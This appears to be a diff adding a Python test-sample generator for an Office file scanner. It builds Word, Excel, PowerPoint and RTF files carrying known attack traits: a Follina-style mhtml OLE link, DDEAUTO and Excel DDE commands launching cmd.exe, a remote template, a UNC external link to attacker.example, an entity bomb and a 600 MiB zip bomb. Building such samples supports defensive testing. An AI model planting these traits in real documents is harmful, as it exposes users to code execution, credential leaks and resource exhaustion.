@@ -1,0 +1,227 @@
+"""Office samples: real documents made with python-docx, python-pptx and XlsxWriter, then given
+one attack trait each by editing the package the way attackers do. The macro samples carry the
+harmless VBA project from ../shared/fixtures (a Sub showing a message box)."""
+
+from __future__ import annotations
+
+import re
+import shutil
+import subprocess
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import docx
+import pptx
+import xlsxwriter
+
+FIXTURE = Path(__file__).resolve().parents[2] / "shared" / "fixtures" / "vbaProject.bin"
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
+TEXT = ["令和8年度 予算要求書 ①㈱ 髙橋", "The quick brown fox jumps over the lazy dog.", "第2段落 ～ テスト"]
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+O_NS = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
+V_NS = 'xmlns:v="urn:schemas-microsoft-com:vml"'
+R_NS = f'xmlns:r="{REL}"'
+
+
+def vba_project() -> bytes:
+    return FIXTURE.read_bytes()
+
+
+def rewrite(path: Path, target: Path, *, add: dict[str, bytes] | None = None,
+            edit: dict[str, Callable[[str], str]] | None = None) -> None:
+    """Copy an OOXML package, adding parts and editing XML parts as text."""
+    add, edit = add or {}, edit or {}
+    with zipfile.ZipFile(path) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
+        names = source.namelist()
+        for name in names:
+            data = source.read(name)
+            if name in edit:
+                data = edit.pop(name)(data.decode("utf-8")).encode("utf-8")
+            out.writestr(name, data)
+        for name, func in edit.items():  # parts that did not exist yet
+            out.writestr(name, func("").encode("utf-8"))
+        for name, data in add.items():
+            out.writestr(name, data)
+
+
+def add_rel(rels: str, rel_id: str, rel_type: str, target: str, external: bool = False) -> str:
+    mode = ' TargetMode="External"' if external else ""
+    entry = f'<Relationship Id="{rel_id}" Type="{rel_type}" Target="{target}"{mode}/>'
+    if not rels:
+        return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
+                f'"http://schemas.openxmlformats.org/package/2006/relationships">{entry}</Relationships>')
+    return rels.replace("</Relationships>", entry + "</Relationships>")
+
+
+def add_override(types: str, part: str, ctype: str) -> str:
+    return types.replace("</Types>", f'<Override PartName="{part}" ContentType="{ctype}"/></Types>')
+
+
+def set_main_type(types: str, part: str, ctype: str) -> str:
+    return re.sub(rf'(<Override PartName="{re.escape(part)}" ContentType=")[^"]+', rf"\g<1>{ctype}", types)
+
+
+def in_body(xml: str, fragment: str) -> str:
+    return xml.replace("<w:body>", "<w:body>" + fragment, 1)
+
+
+def make_docx(out: Path) -> Path:
+    clean = out / "docx-clean.docx"
+    document = docx.Document()
+    for line in TEXT:
+        document.add_paragraph(line)
+    document.save(str(clean))
+    return clean
+
+
+def make_word_samples(out: Path) -> None:
+    clean = make_docx(out)
+    doc_rels, types = "word/_rels/document.xml.rels", "[Content_Types].xml"
+    rewrite(clean, out / "docm-macro.docm", add={"word/vbaProject.bin": vba_project()}, edit={
+        doc_rels: lambda x: add_rel(x, "rIdVba", VBA_REL, "vbaProject.bin"),
+        types: lambda x: set_main_type(add_override(x, "/word/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
+                                       "/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
+    })
+    follina = (f'<w:p><w:r><w:object {O_NS} {R_NS}><o:OLEObject Type="Link" ProgID="htmlfile" '
+               'ShapeID="_x0000_i1025" DrawAspect="Content" r:id="rIdFollina" UpdateMode="OnCall"/>'
+               "</w:object></w:r></w:p>")
+    rewrite(clean, out / "docx-follina.docx", edit={
+        "word/document.xml": lambda x: in_body(x, follina),
+        doc_rels: lambda x: add_rel(x, "rIdFollina", f"{REL}/oleObject",
+                                    "mhtml:http://example.com/index.html!x-usc:http://example.com/index.html",
+                                    external=True),
+    })
+    rewrite(clean, out / "docx-remote-template.docx", edit={
+        "word/settings.xml": lambda x: re.sub(r"(<w:settings[^>]*>)", rf'\1<w:attachedTemplate {R_NS} r:id="rIdTpl"/>',
+                                              x, count=1),
+        "word/_rels/settings.xml.rels": lambda x: add_rel(x, "rIdTpl", f"{REL}/attachedTemplate",
+                                                          "http://example.com/template.dotm", external=True),
+    })
+    dde = ('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ">'
+           "<w:r><w:t>DDE result</w:t></w:r></w:fldSimple></w:p>"
+           '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE '
+           'c:\\\\windows\\\\system32\\\\cmd.exe "/c notepad" </w:instrText></w:r><w:r><w:fldChar '
+           'w:fldCharType="separate"/></w:r><w:r><w:t>field result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
+           "</w:r></w:p>")
+    rewrite(clean, out / "docx-ddeauto.docx", edit={"word/document.xml": lambda x: in_body(x, dde)})
+    embedded = (f'<w:p><w:r><w:object {O_NS} {V_NS} {R_NS}><v:shape id="_x0000_i1026" style="width:60pt;height:40pt"/>'
+                '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1026" DrawAspect="Icon" '
+                'ObjectID="_1700000000" r:id="rIdPkg"/></w:object></w:r></w:p>')
+    rewrite(clean, out / "docx-embedded-package.docx", add={"word/embeddings/oleObject1.bin": vba_project()}, edit={
+        "word/document.xml": lambda x: in_body(x, embedded),
+        doc_rels: lambda x: add_rel(x, "rIdPkg", f"{REL}/oleObject", "embeddings/oleObject1.bin"),
+        types: lambda x: add_override(x, "/word/embeddings/oleObject1.bin",
+                                      "application/vnd.openxmlformats-officedocument.oleObject"),
+    })
+    activex_xml = ('<?xml version="1.0" encoding="UTF-8" standalone="no"?><ax:ocx ax:classid='
+                   '"{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistPropertyBag" '
+                   'xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>').encode()
+    control = (f'<w:p><w:r><w:object {V_NS} {R_NS}><v:shape id="_x0000_i1027" style="width:60pt;height:20pt"/>'
+               '<w:control r:id="rIdAx" w:name="TextBox1" w:shapeid="_x0000_i1027"/></w:object></w:r></w:p>')
+    rewrite(clean, out / "docx-activex.docx", add={"word/activeX/activeX1.xml": activex_xml}, edit={
+        "word/document.xml": lambda x: in_body(x, control),
+        doc_rels: lambda x: add_rel(x, "rIdAx", f"{REL}/control", "activeX/activeX1.xml"),
+        types: lambda x: add_override(x, "/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
+    })
+    bomb_body = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">'
+                 f']><w:document {W}><w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>')
+    rewrite(clean, out / "docx-entity-bomb.docx", edit={"word/document.xml": lambda _: bomb_body})
+    with zipfile.ZipFile(out / "docx-zip-bomb.docx", "w", zipfile.ZIP_DEFLATED) as bomb:
+        with zipfile.ZipFile(clean) as source:
+            for name in source.namelist():
+                bomb.writestr(name, source.read(name))
+        info = zipfile.ZipInfo("word/media/padding.bin")
+        info.compress_type = zipfile.ZIP_DEFLATED
+        with bomb.open(info, "w", force_zip64=True) as member:
+            for _ in range(600):  # 600 MiB of zeros, as Emotet pads documents past scanners' limits
+                member.write(bytes(1 << 20))
+    data = clean.read_bytes()
+    (out / "docx-corrupt.docx").write_bytes(data[: len(data) // 2])
+
+
+def make_excel_samples(out: Path) -> None:
+    def workbook(path: Path, formulas: dict[str, str], vba: bool = False) -> None:
+        book = xlsxwriter.Workbook(str(path))
+        sheet = book.add_worksheet("予算")
+        for row, line in enumerate(TEXT):
+            sheet.write(row, 0, line)
+        sheet.write_number("B1", 1200)
+        for cell, formula in formulas.items():
+            sheet.write_formula(cell, formula, None, 42)
+        if vba:
+            book.add_vba_project(str(FIXTURE))
+        book.close()
+
+    workbook(out / "xlsx-clean.xlsx", {"B2": "=B1*2"})
+    workbook(out / "xlsm-macro.xlsm", {"B2": "=B1*2"}, vba=True)
+    workbook(out / "xlsx-dde.xlsx", {"B2": "=B1*2", "B3": "=cmd|' /C calc'!A0"})
+    base = out / "xlsx-external-base.xlsx"
+    workbook(base, {"B2": "=B1*2", "B3": "=[1]Sheet1!A1"})
+    link = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns='
+            '"http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+            f'{R_NS}><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
+            "</externalBook></externalLink>").encode()
+    rewrite(base, out / "xlsx-external-link.xlsx", add={"xl/externalLinks/externalLink1.xml": link}, edit={
+        "xl/externalLinks/_rels/externalLink1.xml.rels": lambda x: add_rel(
+            x, "rId1", f"{REL}/externalLinkPath", "file:///\\\\attacker.example\\share\\book.xlsx", external=True),
+        "xl/_rels/workbook.xml.rels": lambda x: add_rel(x, "rIdExt", f"{REL}/externalLink",
+                                                        "externalLinks/externalLink1.xml"),
+        "xl/workbook.xml": lambda x: x.replace("</sheets>", f'</sheets><externalReferences {R_NS}>'
+                                               '<externalReference r:id="rIdExt"/></externalReferences>'),
+        "[Content_Types].xml": lambda x: add_override(
+            x, "/xl/externalLinks/externalLink1.xml",
+            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"),
+    })
+    base.unlink()
+
+
+def make_powerpoint_samples(out: Path) -> None:
+    clean = out / "pptx-clean.pptx"
+    presentation = pptx.Presentation()
+    slide = presentation.slides.add_slide(presentation.slide_layouts[1])
+    slide.shapes.title.text = TEXT[0]
+    slide.placeholders[1].text = TEXT[1]
+    presentation.save(str(clean))
+    rewrite(clean, out / "pptm-macro.pptm", add={"ppt/vbaProject.bin": vba_project()}, edit={
+        "ppt/_rels/presentation.xml.rels": lambda x: add_rel(x, "rIdVba", VBA_REL, "vbaProject.bin"),
+        "[Content_Types].xml": lambda x: set_main_type(
+            add_override(x, "/ppt/vbaProject.bin", "application/vnd.ms-office.vbaProject"), "/ppt/presentation.xml",
+            "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
+    })
+
+
+def make_rtf_sample(out: Path) -> None:
+    ole = vba_project().hex()
+    header = "01050000" "02000000" "08000000" + "5061636b61676500".ljust(16, "0") + "00000000" "00000000"
+    size = f"{len(vba_project()):08x}"
+    size_le = "".join(reversed([size[i:i + 2] for i in range(0, 8, 2)]))
+    rtf = ("{\\rtf1\\ansi\\ansicpg932\\deff0{\\fonttbl{\\f0 MS Mincho;}}\\f0 "
+           "\\'97\\'df\\'98\\'61 sample text\\par "
+           "{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + header + size_le + ole + "}}\\par }")
+    (out / "rtf-object.rtf").write_text(rtf, encoding="ascii")
+
+
+def make_legacy_samples(out: Path) -> None:
+    """Binary .xls/.doc made by LibreOffice from the macro samples (it keeps the VBA project)."""
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        return
+    profile = out / ".lo-profile"
+    for source, kind, name in ((out / "xlsm-macro.xlsm", "xls", "xls-macro.xls"),
+                               (out / "docm-macro.docm", "doc", "doc-macro.doc")):
+        subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{profile}", "--convert-to", kind,
+                        "--outdir", str(out / ".legacy"), str(source)], capture_output=True, timeout=120, check=False)
+        converted = out / ".legacy" / f"{source.stem}.{kind}"
+        if converted.exists():
+            converted.rename(out / name)
+    shutil.rmtree(out / ".legacy", ignore_errors=True)
+    shutil.rmtree(profile, ignore_errors=True)
+
+
+def make_office(out: Path) -> None:
+    make_word_samples(out)
+    make_excel_samples(out)
+    make_powerpoint_samples(out)
+    make_rtf_sample(out)
